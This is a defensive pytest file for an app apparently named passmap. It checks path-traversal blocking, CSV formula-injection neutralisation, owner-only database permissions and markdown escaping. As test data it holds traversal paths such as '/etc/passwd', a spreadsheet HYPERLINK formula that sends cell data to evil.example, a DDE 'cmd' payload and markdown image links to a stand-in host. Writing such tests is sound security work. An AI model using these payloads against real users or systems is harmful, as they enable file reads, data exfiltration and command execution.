"""Files and cells: procedure documents only from their folder and only for objects the viewer
may see; CSV exports that a spreadsheet will not run; database files readable by their owner
only; names shown as the characters typed (no markdown image is ever fetched)."""

from __future__ import annotations

import csv
import io
import os
import re
import stat

import pytest
from streamlit.testing.v1 import AppTest

from passmap.documents import procedure_file
from tests.helpers import _store, login


@pytest.fixture
def folder(tmp_path):
    root = tmp_path / "procedures"
    (root / "c1").mkdir(parents=True)
    (root / "c1" / "aed-sop.pdf").write_bytes(b"%PDF-1.4 aed procedure")
    (tmp_path / "secret.pdf").write_bytes(b"%PDF outside")
    (root / "c1" / "link.pdf").symlink_to(tmp_path / "secret.pdf")
    (tmp_path / "install").mkdir()
    (tmp_path / "install" / "config").write_text("[core]")
    return root


@pytest.mark.parametrize(
    "doc",
    [
        ".git/config",
        "../install/config",
        "../secret.pdf",
        "procedures/../../secret.pdf",
        "/etc/passwd",
        "/etc//passwd",
        "c1/link.pdf",  # a link leading out of the folder
        "c1/missing.pdf",
        "c1",
        "c1/aed-sop.pdf\x00.txt",
        "..\\secret.pdf",
        None,
        42,
    ],
)
def test_procedure_documents_outside_their_folder_are_never_read(folder, doc):
    assert procedure_file(doc, folder) is None


def test_procedure_documents_inside_their_folder_are_found(folder):
    want = (folder / "c1" / "aed-sop.pdf").resolve()
    assert procedure_file("c1/aed-sop.pdf", folder) == want
    assert procedure_file("procedures/c1/aed-sop.pdf", folder) == want  # the demo's form


def _procedure_panel():
    import streamlit as st

    from ui import data
    from ui.detail import render_detail

    render_detail(data.get_store(), "control", st.session_state["forge_id"])


def test_the_detail_panel_offers_a_document_only_from_the_folder_and_to_who_may_see_it(
    app, tiny_db, folder, monkeypatch
):
    monkeypatch.setenv("PASSMAP_PROCEDURE_DIR", str(folder))
    store = _store(tiny_db)
    store.update_feature("control", "aed-1", {"procedure_doc": "c1/aed-sop.pdf"}, None, "t")
    store.update_feature("control", "duress-1", {"procedure_doc": "c1/aed-sop.pdf"}, None, "t")
    store.update_feature("control", "tk-1", {"procedure_doc": "../install/config"}, None, "t")
    shown = {}
    for role, object_id in (("viewer", "aed-1"), ("board", "duress-1"), ("viewer", "tk-1")):
        at = AppTest.from_function(_procedure_panel, default_timeout=60)
        login(at, role)
        at.session_state["forge_id"] = object_id
        at.run()
        assert not at.exception
        shown[(role, object_id)] = [b.label for b in at.get("download_button")]
    assert shown[("viewer", "aed-1")] == ["Procedure: aed-sop.pdf"]
    assert shown[("board", "duress-1")] == []  # a duress button is not on the board's layers
    assert shown[("viewer", "tk-1")] == []  # outside the folder: named, never read


def test_csv_exports_neutralise_formulas(tiny_db, tmp_path):
    from passmap.exporters.files import export_inventory_csv

    store = _store(tiny_db)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for cid, name in (("aed-1", hostile), ("tk-1", "+1-800 trauma"), ("kb-1", "@SUM(A1:A9)")):
        store.update_feature("control", cid, {"name": name}, None, "t")
    out = tmp_path / "inventory.csv"
    export_inventory_csv(store, out)
    names = {r["id"]: r["name"] for r in csv.DictReader(io.StringIO(out.read_text()))}
    assert names["aed-1"] == "'" + hostile
    assert names["tk-1"] == "'+1-800 trauma" and names["kb-1"] == "'@SUM(A1:A9)"
    assert names["fap-1"] == "FACP"  # ordinary names untouched


def test_board_csv_neutralises_formulas():
    import pandas as pd

    from passmap.reports.board_text import board_csv_text

    class Report:
        gaps = pd.DataFrame([{"title": "=cmd|'/c calc'!A1", "rank": -5}])
        roadmap = pd.DataFrame([{"title": "-2+3", "year": 2027}])
        unscheduled = pd.DataFrame([])

    rows = list(csv.DictReader(io.StringIO(board_csv_text(Report()))))
    cells = [v for r in rows for v in r.values() if v]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "'=cmd|'/c calc'!A1" in cells and "'-2+3" in cells and "-5" in cells


def test_database_files_are_readable_by_their_owner_only(tmp_path):
    from passmap.store import Store

    old = tmp_path / "old.duckdb"
    with Store(old):
        pass
    os.chmod(old, 0o644)  # a file made world-readable before this version
    with Store(old) as s:
        s.cursor().execute("CHECKPOINT")
    new = tmp_path / "new" / "fresh.duckdb"
    with Store(new) as s:
        s.cursor().execute("CREATE TABLE t AS SELECT 1 AS x")
        files = [p for p in new.parent.iterdir()]
        for p in files + [old]:
            assert stat.S_IMODE(p.stat().st_mode) & 0o077 == 0, p


def _hostile_heading():
    import streamlit as st

    from ui.text import plain

    st.subheader(plain(st.session_state["name"]))
    st.markdown(f"**{plain(st.session_state['name'])}**")


def test_names_are_shown_as_typed_never_as_markdown():
    at = AppTest.from_function(_hostile_heading)
    at.session_state["name"] = "![x](http://evil.example/p.png) [click](http://evil.example) **b**"
    at.run()
    unescaped = re.compile(r"(?<!\\)(!\[|\]\(|\*\*)")  # image, link, emphasis
    for text in (at.subheader[0].value, at.markdown[0].value.removeprefix("**")[:-2]):
        assert not unescaped.search(text), text
        assert "evil.example" in text  # the characters are there, as text
